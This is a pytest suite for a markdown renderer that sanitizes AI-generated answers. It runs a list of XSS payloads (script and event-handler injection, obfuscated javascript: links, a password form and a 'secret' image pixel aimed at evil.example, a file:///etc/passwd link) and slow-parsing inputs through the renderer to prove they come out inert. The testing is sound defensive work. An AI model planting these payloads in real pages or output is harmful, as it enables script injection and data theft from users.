import time

import pytest

from components.colouring import LONGEST as COLOURED
from components.prose import LONGEST, Code, Prose, Segment, segments
from tests.components.sight import dangers, words

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> and <b onmouseover=alert(1)>bold</b>",
    "<style>body{display:none}</style>\n\n<form action=https://evil.example><input name=password></form>",
    '<iframe src="javascript:alert(1)"></iframe><svg onload=alert(1)><math href="javascript:alert(1)">',
    "<!-- comment --><!doctype html><![CDATA[x]]>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHN2Zz4=)",
    "[x](vbscript:alert(1)) [y](file:///etc/passwd) [z](/logout) [q](//evil.example) [h](#top)",
    "[x](&#106;avascript:alert(1)) [y](java\nscript:alert(1)) [z](<java script:alert(1)>)",
    '[x](https://a.example "\\" onclick=alert(1) \\"") [y](https://a.example/"onclick="alert(1))',
    "![pixel](https://evil.example/?secret=1) ![p](data:image/svg+xml;base64,AA) [![a](http://b.c/d.png)](http://e.f)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "<https://a.example/<script>> <javascript:alert(1)> <mailto:a@b.example>",
    "https://a.example/\"onclick=alert(1) https://a.example/'><script>alert(1)</script>",
    "[a]: javascript:alert(1)\n\n[a] and [b]\n\n[b]: data:text/html,x",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "````md\n```js\n<script>alert(1)</script>\n```\n````",
    '- ```py\n  <script>\n  ```\n- > ~~~x" onclick=\n  > <b>\n  > ~~~',
    "    <script>alert(1)</script>",
    "$\\text{<img src=x onerror=alert(1)>}$ $\\href{javascript:alert(1)}{x}$ $$\\style{color:red}{<b>}$$",
    "$\\class{o-toast}{x}$ \\(\\text{&lt;script&gt;}\\) \\[\\text{</math><script>alert(1)</script>}\\]",
    "$\\newcommand{\\a}{\\a\\a}\\a$ $\\frac$ $\\left($ $\\begin{matrix}$",
    "| <script> | [x](javascript:a) |\n|:--|--:|\n| `<b>` | ![i](http://j.k) |",
    "- [ ] <input onfocus=alert(1) autofocus>\n- [x] done",
    "# <svg/onload=alert(1)>\n\nsetext <b>\n---",
    "**<b>** ~~<i>~~ `<u>` \\<s\\> &lt;script&gt; &#60;script&#62;",
    "\u202e<script>\u0000alert(1)\ufeff",
    "[a](https://x.example/`<b>`) `[b](javascript:c)`",
]


def html(segment: Segment) -> str:
    return segment.html


def rendered(markdown: str) -> str:
    return "".join(html(segment) for segment in segments(markdown))


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_a_model_writes_becomes_more_than_words_and_links(markdown: str) -> None:
    for end in range(len(markdown) + 1):
        assert dangers(rendered(markdown[:end])) == []


def test_links_open_elsewhere_and_carry_nothing_along() -> None:
    assert rendered("[a](https://b.example)") == (
        '<p><a href="https://b.example" target="_blank" rel="noopener noreferrer nofollow">a</a></p>\n'
    )


def test_pictures_are_links_that_say_what_they_show() -> None:
    made = rendered("![a cat](https://b.example/c.png)")
    assert "<img" not in made
    assert ">a cat</a>" in made
    assert 'href="https://b.example/c.png"' in made


def test_a_picture_inside_a_link_stays_one_link() -> None:
    made = rendered("[![a cat](https://b.example/c.png)](https://d.example)")
    assert made.count("<a ") == 1
    assert 'href="https://d.example"' in made


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://a.example/b?c=d#e.", "https://a.example/b?c=d#e"),
        ("(https://a.example/x_(y))", "https://a.example/x_(y)"),
        ("https://a.example/b_c_d, and", "https://a.example/b_c_d"),
    ],
)
def test_bare_addresses_become_links_without_the_signs_of_the_sentence(text: str, address: str) -> None:
    assert f'href="{address}"' in rendered(text)
    assert words(rendered(text)).strip() == text


def test_code_blocks_stand_by_themselves_and_keep_their_source() -> None:
    before, code, after = segments('a\n\n```py title="x"\nif 1 < 2:\n    pass\n```\n\nb')
    assert isinstance(before, Prose)
    assert isinstance(after, Prose)
    assert isinstance(code, Code)
    assert (code.language, code.source) == ("py", "if 1 < 2:\n    pass")
    assert 'class="k"' in code.html


def test_code_of_an_unknown_language_stays_plain() -> None:
    (code,) = segments("```qwertz\na < b\n```")
    assert "a &lt; b" in code.html
    assert "<span" not in code.html


def test_very_long_code_stays_plain() -> None:
    (code,) = segments("```py\n" + "x = 1\n" * (COLOURED // 5) + "```")
    assert "<span" not in code.html


def test_tables_tasks_and_struck_words_are_understood() -> None:
    made = rendered("| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~gone~~")
    assert '<td class="end">1</td>' in made
    assert '<td class="center">2</td>' in made
    assert '<li class="task">☑ done</li>' in made
    assert '<li class="task">☐ open</li>' in made
    assert "<s>gone</s>" in made


def test_a_line_break_is_kept_as_models_mean_it() -> None:
    assert "one<br>\ntwo" in rendered("one\ntwo").replace("<br />", "<br>")


def test_links_may_be_named_before_they_are_known() -> None:
    assert 'href="https://a.example"' in rendered("[a]\n\nb\n\n[a]: https://a.example")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 60_000,
        "http://a" * 20_000,
        "<http://" * 20_000,
        "*a_ " * 20_000,
        "`a``b```" * 10_000,
        "![a](" * 20_000,
        "> " * 20_000,
        "\\[\na\n" * 5_000,
        "$a " * 30_000,
        "- " * 30_000,
        "|a" * 20_000 + "\n" + "|-" * 20_000,
        "&" * 100_000,
    ],
    ids=lambda text: text[:8],
)
def test_hostile_lengths_cannot_hold_up_the_others(text: str) -> None:
    began = time.process_time()
    assert dangers(rendered(text)) == []
    assert time.process_time() - began < 2


def test_the_end_of_an_endless_answer_is_shown_plainly() -> None:
    made = rendered("word **strong**\n\n" * (LONGEST // 10))
    assert "<strong>" in made
    assert made.count("strong") > LONGEST // 10
    assert dangers(made) == []
